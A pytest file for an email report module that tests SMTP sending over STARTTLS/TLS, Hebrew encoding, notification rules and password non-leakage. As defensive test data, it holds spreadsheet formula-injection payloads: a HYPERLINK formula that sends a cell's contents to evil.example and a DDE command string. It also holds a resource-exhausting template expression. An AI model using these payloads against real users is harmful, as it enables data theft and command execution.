"""The emailed report through a real aiosmtpd server on loopback, with STARTTLS, TLS and AUTH."""

from __future__ import annotations

import csv
import datetime as dt
import io
import ipaddress
import logging
import socket
import ssl
import threading
from dataclasses import dataclass
from decimal import Decimal
from email import message_from_bytes
from email.policy import default as default_policy
from zoneinfo import ZoneInfo

import pytest
from aiosmtpd.controller import Controller
from aiosmtpd.smtp import AuthResult, LoginPassword
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.x509.oid import NameOID

from consistency.mail import (
    MailError,
    build_message,
    findings_csv,
    send,
    should_send,
    subject_for,
    write_eml,
)
from consistency.model import Evidence, Finding
from consistency.result import Result

TZ = ZoneInfo("Asia/Jerusalem")
STARTED = dt.datetime(2026, 11, 21, 2, 0, tzinfo=TZ)
USER = "reports"
PASSWORD = "Pw-7f3a9c1e-never-print"
ENV = {"SMTP_USER": USER, "SMTP_PASSWORD": PASSWORD}
HTML = '<html dir="rtl" lang="he"><body><h1>דוח עקביות</h1><p>טלפון: ₪89.91</p></body></html>'
TEXT = "דוח עקביות\nטלפון הציע ₪89.91 עבור סיב 500 מגה; מחיר המחירון ₪99.90 (-10.0%)\n"


# --- a throwaway certificate and a real SMTP server ------------------------------------------


@pytest.fixture(scope="module")
def cert_files(tmp_path_factory):
    """A self-signed certificate for localhost and 127.0.0.1, written as PEM files."""
    folder = tmp_path_factory.mktemp("tls")
    key = ec.generate_private_key(ec.SECP256R1())
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "localhost")])
    now = dt.datetime.now(dt.UTC)
    names = [x509.DNSName("localhost"), x509.IPAddress(ipaddress.ip_address("127.0.0.1"))]
    cert = (
        x509.CertificateBuilder()
        .subject_name(name)
        .issuer_name(name)
        .public_key(key.public_key())
        .serial_number(x509.random_serial_number())
        .not_valid_before(now - dt.timedelta(minutes=5))
        .not_valid_after(now + dt.timedelta(days=1))
        .add_extension(x509.SubjectAlternativeName(names), critical=False)
        .add_extension(x509.BasicConstraints(ca=True, path_length=None), critical=True)
        .add_extension(x509.SubjectKeyIdentifier.from_public_key(key.public_key()), critical=False)
        .sign(key, hashes.SHA256())
    )
    cert_path, key_path = folder / "cert.pem", folder / "key.pem"
    cert_path.write_bytes(cert.public_bytes(serialization.Encoding.PEM))
    key_path.write_bytes(
        key.private_bytes(
            serialization.Encoding.PEM,
            serialization.PrivateFormat.PKCS8,
            serialization.NoEncryption(),
        )
    )
    return cert_path, key_path


@pytest.fixture(scope="module")
def server_tls(cert_files):
    context = ssl.create_default_context(ssl.Purpose.CLIENT_AUTH)
    context.load_cert_chain(*cert_files)
    return context


@pytest.fixture(scope="module")
def client_tls(cert_files):
    """A verifying client context that trusts only the throwaway certificate."""
    return ssl.create_default_context(cafile=str(cert_files[0]))


class Inbox:
    """aiosmtpd handler keeping what it received, and an authenticator for USER/PASSWORD."""

    def __init__(self):
        self.envelopes = []
        self.logins = []

    async def handle_DATA(self, server, session, envelope):
        self.envelopes.append(envelope)
        return "250 Message accepted for delivery"

    def authenticate(self, server, session, envelope, mechanism, auth_data):
        if not isinstance(auth_data, LoginPassword):
            return AuthResult(success=False, handled=False)
        self.logins.append(auth_data.login.decode())
        ok = auth_data.login == USER.encode() and auth_data.password == PASSWORD.encode()
        return AuthResult(success=ok, handled=False)

    def only_message(self):
        (envelope,) = self.envelopes
        return envelope, message_from_bytes(envelope.content, policy=default_policy)


def free_port() -> int:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return sock.getsockname()[1]


@pytest.fixture
def starttls_server(server_tls):
    inbox = Inbox()
    controller = Controller(
        inbox,
        hostname="127.0.0.1",
        port=free_port(),
        tls_context=server_tls,
        require_starttls=True,
        authenticator=inbox.authenticate,
        auth_required=True,
        auth_require_tls=True,
    )
    controller.start()
    yield inbox, controller.port
    controller.stop()


@pytest.fixture
def plain_server():
    inbox = Inbox()
    controller = Controller(inbox, hostname="127.0.0.1", port=free_port())
    controller.start()
    yield inbox, controller.port
    controller.stop()


def smtp_settings(port: int, security: str = "starttls", login: bool = True) -> dict:
    settings = {"host": "127.0.0.1", "port": port, "security": security, "timeout": 10}
    if login:
        settings.update(username_env="SMTP_USER", password_env="SMTP_PASSWORD")
    return settings


# --- a result with Hebrew and hostile cells -------------------------------------------------


def sample_result() -> Result:
    phone = Finding(
        fingerprint="fp-phone",
        rule="price-mismatch",
        severity="error",
        message="טלפון הציע ₪89.91 עבור סיב 500 מגה; מחיר המחירון ₪99.90 (-10.0%)",
        channel="phone",
        product="fiber-500",
        at=dt.datetime(2026, 11, 21, 10, 15, tzinfo=TZ),
        expected={"amount": Decimal("99.90"), "currency": "ILS"},
        observed={"amount": Decimal("89.91"), "currency": "ILS"},
        difference={"amount": Decimal("-9.99"), "percent": Decimal("-10.0")},
        cause="over-authority-discount",
        evidence=Evidence(ref="call-123", source="exports/phone/2026-11-21.csv:14"),
    )
    hostile = Finding(
        fingerprint="fp-chat",
        rule="forbidden-phrase",
        severity="warning",
        message='=HYPERLINK("http://evil.example/?x="&A1,"לחץ כאן")',
        channel="chat",
        answer="cancellation-fee",
        evidence=Evidence(ref="@SUM(1+1)*cmd|' /C calc'!A0", source="-2+3+cmd"),
    )
    accepted = Finding("fp-web", "price-mismatch", "error", "accepted", status="baselined")
    return Result(
        started=STARTED,
        price_list_version="2026-11",
        findings=[hostile, phone, accepted],
    )


# --- the message -----------------------------------------------------------------------------


def test_subject_counts_active_findings_and_names_the_price_list():
    assert subject_for(sample_result()) == (
        "consistency: 1 error, 1 warning, 1 baselined — price list 2026-11"
    )
    failed = Result(started=STARTED, errors=["prices.yaml: unreadable"])
    assert subject_for(failed) == "consistency: run failed"


def test_message_has_text_html_and_csv_parts_in_utf8(tmp_path):
    message = build_message(
        sample_result(), HTML, TEXT, sender="consistency@example.co.il", to=["a@example.co.il"]
    )
    parsed = message_from_bytes(message.as_bytes(), policy=default_policy)
    assert parsed.get_content_type() == "multipart/mixed"
    body = parsed.get_body(preferencelist=("plain",))
    assert body.get_content() == TEXT
    assert parsed.get_body(preferencelist=("html",)).get_content().strip() == HTML
    (attachment,) = parsed.iter_attachments()
    assert attachment.get_content_type() == "text/csv"
    assert attachment.get_filename() == "consistency-findings-2026-11-21.csv"
    assert attachment["Auto-Submitted"] is None
    assert parsed["Auto-Submitted"] == "auto-generated"
    assert parsed["Message-ID"].endswith("@example.co.il>")


def test_csv_neutralizes_formulas_and_keeps_numbers_and_hebrew():
    rows = list(csv.DictReader(io.StringIO(findings_csv(sample_result().sorted_findings()))))
    phone = next(r for r in rows if r["channel"] == "phone")
    chat = next(r for r in rows if r["channel"] == "chat")
    assert phone["difference"] == "-9.99"
    assert phone["expected"] == "99.90 ILS"
    assert phone["observed"] == "89.91 ILS"
    assert phone["message"].startswith("טלפון הציע ₪89.91")
    assert phone["at"] == "2026-11-21T10:15:00+02:00"
    assert (phone["source"], phone["ref"]) == ("exports/phone/2026-11-21.csv:14", "call-123")
    assert chat["message"] == '\'=HYPERLINK("http://evil.example/?x="&A1,"לחץ כאן")'
    assert chat["ref"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert chat["source"] == "'-2+3+cmd"


def test_hebrew_subject_and_recipient_are_encoded_and_survive(tmp_path):
    subject = "עקביות: 3 שגיאות — מחירון נובמבר"
    message = build_message(
        sample_result(),
        HTML,
        TEXT,
        sender="בודק עקביות <consistency@example.co.il>",
        to="צוות תמחור <pricing@example.co.il>",
        subject=subject,
    )
    path = tmp_path / "out" / "report.eml"
    write_eml(message, path)
    raw = path.read_bytes()
    header_block = raw.split(b"\r\n\r\n", 1)[0]
    assert header_block.isascii()
    assert b"=?utf-8?" in header_block
    parsed = message_from_bytes(raw, policy=default_policy)
    assert parsed["Subject"] == subject
    assert parsed["To"].addresses[0].display_name == "צוות תמחור"
    assert parsed["To"].addresses[0].addr_spec == "pricing@example.co.il"
    assert list(path.parent.iterdir()) == [path]


def test_no_recipients_is_a_mail_error():
    with pytest.raises(MailError, match="no recipients"):
        build_message(sample_result(), HTML, TEXT, sender="c@example.co.il", to=[])


# --- sending through a real server -------------------------------------------------------------


def test_send_with_starttls_and_login_delivers_everything(
    starttls_server, client_tls, caplog, capfd
):
    caplog.set_level(logging.DEBUG)
    inbox, port = starttls_server
    message = build_message(
        sample_result(), HTML, TEXT, sender="consistency@example.co.il", to=["p@example.co.il"]
    )
    send(message, smtp_settings(port), env=ENV, ssl_context=client_tls)
    envelope, received = inbox.only_message()
    assert inbox.logins == [USER]
    assert envelope.mail_from == "consistency@example.co.il"
    assert envelope.rcpt_tos == ["p@example.co.il"]
    assert (
        received["Subject"] == "consistency: 1 error, 1 warning, 1 baselined — price list 2026-11"
    )
    assert received.get_body(preferencelist=("plain",)).get_content() == TEXT
    assert "דוח עקביות" in received.get_body(preferencelist=("html",)).get_content()
    (attachment,) = received.iter_attachments()
    text = attachment.get_content()
    assert text.startswith("\ufeffseverity,status,rule,channel")
    rows = list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"))))
    # what is still to fix first, the baselined one after it (tryout 13b F2)
    assert [(r["severity"], r["status"]) for r in rows] == [
        ("error", ""),
        ("warning", ""),
        ("error", "baselined"),
    ]
    assert any(r["message"].startswith("'=HYPERLINK(") for r in rows)
    assert "sent 'consistency: 1 error" in caplog.text
    out, err = capfd.readouterr()
    for text in (caplog.text, out, err, envelope.content.decode("utf-8", "replace")):
        assert PASSWORD not in text


def test_a_refused_login_is_a_mail_error_without_the_password(starttls_server, client_tls, caplog):
    caplog.set_level(logging.DEBUG)
    inbox, port = starttls_server
    wrong = {"SMTP_USER": USER, "SMTP_PASSWORD": "Wrong-" + PASSWORD}
    message = build_message(sample_result(), HTML, TEXT, sender="c@example.co.il", to="p@x.il")
    with pytest.raises(MailError) as caught:
        send(message, smtp_settings(port), env=wrong, ssl_context=client_tls)
    text = str(caught.value)
    assert f"refused the login of {USER!r}" in text
    assert "535" in text
    assert PASSWORD not in text and PASSWORD not in repr(caught.value)
    assert caught.value.__cause__ is None and caught.value.__suppress_context__
    assert PASSWORD not in caplog.text
    assert inbox.envelopes == []


def test_the_server_certificate_is_verified_by_default(starttls_server):
    _, port = starttls_server
    message = build_message(sample_result(), HTML, TEXT, sender="c@example.co.il", to="p@x.il")
    with pytest.raises(MailError, match="TLS certificate not trusted"):
        send(message, smtp_settings(port), env=ENV)


def test_send_over_implicit_tls(server_tls, client_tls):
    inbox = Inbox()
    controller = Controller(
        inbox,
        hostname="127.0.0.1",
        port=free_port(),
        ssl_context=server_tls,
        authenticator=inbox.authenticate,
        # aiosmtpd does not see implicit TLS as TLS, so it must not insist on STARTTLS for AUTH
        auth_require_tls=False,
    )
    controller.start()
    try:
        message = build_message(sample_result(), HTML, TEXT, sender="c@example.co.il", to="p@x.il")
        send(message, smtp_settings(controller.port, "ssl"), env=ENV, ssl_context=client_tls)
    finally:
        controller.stop()
    _, received = inbox.only_message()
    assert inbox.logins == [USER]
    assert received["To"] == "p@x.il"


def test_plain_smtp_without_login_for_a_local_relay(plain_server):
    inbox, port = plain_server
    message = build_message(sample_result(), HTML, TEXT, sender="c@example.co.il", to="p@x.il")
    send(message, smtp_settings(port, "none", login=False), env={})
    _, received = inbox.only_message()
    assert received["From"] == "c@example.co.il"


def test_plain_smtp_refuses_to_send_a_password(plain_server):
    inbox, port = plain_server
    message = build_message(sample_result(), HTML, TEXT, sender="c@example.co.il", to="p@x.il")
    with pytest.raises(MailError, match="without TLS"):
        send(message, smtp_settings(port, "none"), env=ENV)
    assert inbox.envelopes == []


def test_a_non_ascii_password_fails_clearly(starttls_server, client_tls):
    _, port = starttls_server
    hebrew = {"SMTP_USER": USER, "SMTP_PASSWORD": "ססמה-סודית"}
    message = build_message(sample_result(), HTML, TEXT, sender="c@example.co.il", to="p@x.il")
    with pytest.raises(MailError, match="ASCII") as caught:
        send(message, smtp_settings(port), env=hebrew, ssl_context=client_tls)
    assert "ססמה-סודית" not in str(caught.value)


def test_nothing_listening_is_a_mail_error():
    message = build_message(sample_result(), HTML, TEXT, sender="c@example.co.il", to="p@x.il")
    with pytest.raises(MailError, match=r"127\.0\.0\.1:\d+: connection refused"):
        send(message, smtp_settings(free_port(), "none", login=False), env={})


def test_a_silent_server_times_out():
    listener = socket.create_server(("127.0.0.1", 0))
    accepted = []
    thread = threading.Thread(target=lambda: accepted.append(listener.accept()), daemon=True)
    thread.start()
    settings = smtp_settings(listener.getsockname()[1], "none", login=False)
    settings["timeout"] = 0.3
    message = build_message(sample_result(), HTML, TEXT, sender="c@example.co.il", to="p@x.il")
    try:
        with pytest.raises(MailError, match="timed out"):
            send(message, settings, env={})
    finally:
        thread.join(5)
        for conn, _ in accepted:
            conn.close()
        listener.close()


@dataclass(frozen=True)
class BadSettings:
    id: str
    smtp: dict
    env: dict
    words: str


BAD_SETTINGS = [
    BadSettings("no-host", {"security": "none"}, {}, "email.smtp.host is not set"),
    BadSettings("bad-security", {"host": "h", "security": "tls"}, {}, "starttls, ssl or none"),
    BadSettings("bad-port", {"host": "h", "port": "smtp"}, {}, "must be numbers"),
    BadSettings(
        "password-var-unset",
        {"host": "h", "username_env": "SMTP_USER", "password_env": "SMTP_PASSWORD"},
        {"SMTP_USER": "u"},
        "names SMTP_PASSWORD, which is not set in the environment",
    ),
    BadSettings(
        "only-one-variable",
        {"host": "h", "password_env": "SMTP_PASSWORD"},
        ENV,
        "email.smtp.username_env is not set",
    ),
]


@pytest.mark.parametrize("case", BAD_SETTINGS, ids=lambda c: c.id)
def test_bad_settings_fail_before_connecting(case):
    message = build_message(sample_result(), HTML, TEXT, sender="c@example.co.il", to="p@x.il")
    with pytest.raises(MailError) as caught:
        send(message, case.smtp, env=case.env)
    assert case.words in str(caught.value)
    assert PASSWORD not in str(caught.value)


# --- when to send --------------------------------------------------------------------------------


@dataclass(frozen=True)
class NotifyCase:
    id: str
    notify_on: str
    findings: tuple[tuple[str, str | None], ...]  # (fingerprint, status)
    failed: bool
    previous: frozenset[str] | None
    send: bool


NOTIFY_CASES = [
    NotifyCase("always-clean", "always", (), False, None, True),
    NotifyCase("findings-clean", "findings", (), False, None, False),
    NotifyCase("findings-some", "findings", (("a", "new"),), False, None, True),
    NotifyCase("findings-only-baselined", "findings", (("a", "baselined"),), False, None, False),
    NotifyCase("findings-run-failed", "findings", (), True, None, True),
    NotifyCase("change-same-set", "change", (("a", "recurring"),), False, frozenset("a"), False),
    NotifyCase(
        "change-one-more", "change", (("a", None), ("b", None)), False, frozenset("a"), True
    ),
    NotifyCase("change-one-resolved", "change", (), False, frozenset("a"), True),
    NotifyCase("change-first-run-clean", "change", (), False, None, False),
    NotifyCase("change-first-run-findings", "change", (("a", "new"),), False, None, True),
    NotifyCase(
        "change-newly-baselined", "change", (("a", "baselined"),), False, frozenset("a"), True
    ),
    NotifyCase("change-run-failed", "change", (), True, frozenset(), True),
]


@pytest.mark.parametrize("case", NOTIFY_CASES, ids=lambda c: c.id)
def test_should_send(case):
    findings = [Finding(fp, "r", "error", "m", status=status) for fp, status in case.findings]
    errors = ["source unreadable"] if case.failed else []
    result = Result(started=STARTED, findings=findings, errors=errors)
    previous = None if case.previous is None else set(case.previous)
    assert should_send(result, case.notify_on, previous) is case.send


def test_an_unknown_notify_on_is_a_mail_error():
    with pytest.raises(MailError, match="always, findings, change"):
        should_send(Result(started=STARTED), "sometimes", None)


def test_the_real_report_renderers_go_through_unchanged(plain_server):
    report = pytest.importorskip("consistency.report")
    rendered = {}
    for fmt in ("html", "text"):
        stream = io.StringIO()
        report.render(sample_result(), fmt, stream)
        rendered[fmt] = stream.getvalue()
    inbox, port = plain_server
    message = build_message(
        sample_result(), rendered["html"], rendered["text"], sender="c@example.co.il", to="p@x.il"
    )
    send(message, smtp_settings(port, "none", login=False), env={})
    _, received = inbox.only_message()
    html = received.get_body(preferencelist=("html",)).get_content()
    text = received.get_body(preferencelist=("plain",)).get_content()
    # SMTP carries lines ending in CRLF; the content is otherwise the renderers' own
    assert html.replace("\r\n", "\n").rstrip("\n") == rendered["html"].rstrip("\n")
    assert text.replace("\r\n", "\n").rstrip("\n") == rendered["text"].rstrip("\n")
    said = "<bdi>phone</bdi> quoted <bdi>₪89.91</bdi> for <bdi>fiber-500</bdi>"
    assert said in html  # the finding said from its rule's sentence template
    assert "=HYPERLINK(&#34;" in html or "=HYPERLINK(&quot;" in html


# --- the demo's email, built as an email (issue 13, item 3) ----------------------------------


@pytest.fixture(scope="module")
def demo_run():
    from consistency.audit import AuditOptions, audit
    from consistency.inputs.config import load_config
    from consistency.inputs.prices import load_price_list
    from tests.helpers import DEMO

    config = load_config(DEMO / "consistency.yaml")
    result = audit(config, AuditOptions(fetch=False))
    book = load_price_list(config.price_list, config.timezone, config.channels)
    return result, {p.id: p.name for p in book.products.values()}


def test_the_demo_email_is_built_as_an_email(plain_server, demo_run):
    """Parsed back from a real SMTP server on loopback: no script, no forms, no SVG, the CSS
    inlined, under 100 KB, the seed case among the top contradictions, counts by channel."""
    from consistency.inputs.config import EmailConfig
    from consistency.notify import email_report

    result, names = demo_run
    inbox, port = plain_server
    email = EmailConfig(
        to=("pricing@example.co.il",),
        sender="consistency@example.co.il",
        smtp=smtp_settings(port, "none", login=False),
    )
    email_report(result, email, names=names)
    envelope, received = inbox.only_message()
    html = received.get_body(preferencelist=("html",)).get_content()
    size = len(envelope.content)
    assert size < 100_000, size
    lowered = html.lower()
    for absent in ("<script", "<form", "<input", "<select", "<svg", "<details", "<style"):
        assert absent not in lowered, absent
    assert lowered.count(' style="') > 50  # the CSS is inlined
    assert '<html lang="he" dir="rtl">' in html  # the demo's price list is Hebrew
    first = html.index("hh-1001")  # the seed household comes before any other finding
    assert "116.91" in html[first : first + 3000] and "129.90" in html[first : first + 3000]
    assert "ממצאים לפי ערוץ" in html  # findings per channel
    for channel in ("web", "phone", "chat"):
        assert f"<bdi>{channel}</bdi>" in html
    csv = [p for p in received.iter_attachments() if p.get_content_type() == "text/csv"]
    assert len(csv) == 1


def test_the_subject_is_a_template_with_the_counts(plain_server, demo_run):
    from types import SimpleNamespace

    from consistency.notify import counts, email_report

    result, names = demo_run
    inbox, port = plain_server
    email = SimpleNamespace(
        to=("pricing@example.co.il",),
        sender="consistency@example.co.il",
        smtp=smtp_settings(port, "none", login=False),
        subject="מחירון {{ version }}: {{ errors }} שגיאות, {{ new }} חדשים",
    )
    email_report(result, email, names=names)
    _, received = inbox.only_message()
    numbers = counts(result)
    assert received["Subject"] == f"מחירון 2026-11: {numbers['errors']} שגיאות, 0 חדשים"


def test_a_subject_template_over_budget_is_a_mail_error():
    from consistency.notify import subject_line

    with pytest.raises(MailError, match="email.subject"):
        subject_line(Result(started=STARTED), "{{ 'a' * 10**9 }}")
